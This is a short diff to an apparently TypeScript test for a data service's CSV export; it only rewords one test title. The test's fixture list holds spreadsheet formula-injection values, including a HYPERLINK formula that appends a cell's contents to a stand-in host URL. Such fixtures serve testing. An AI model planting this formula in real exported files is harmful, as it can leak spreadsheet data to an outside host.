@@ -56,7 +56,7 @@ async function exported(t: Test, { get }: Pick<Service, 'get'>, name: string, qu
   return { csv, ndjson, features: geojson.features };
 }
 
-t.test('CSV has values that a spreadsheet takes for formulas exactly as they are on record', async (t) => {
+t.test('CSV contains values that a spreadsheet takes for formulas exactly as they are on record', async (t) => {
   const service = await openService(t);
   const formulas = ['=HYPERLINK("http://x.example/"&A1)', '+1+1', '-2+3', '@SUM(A1)', "'=1"];
   await service.importText({
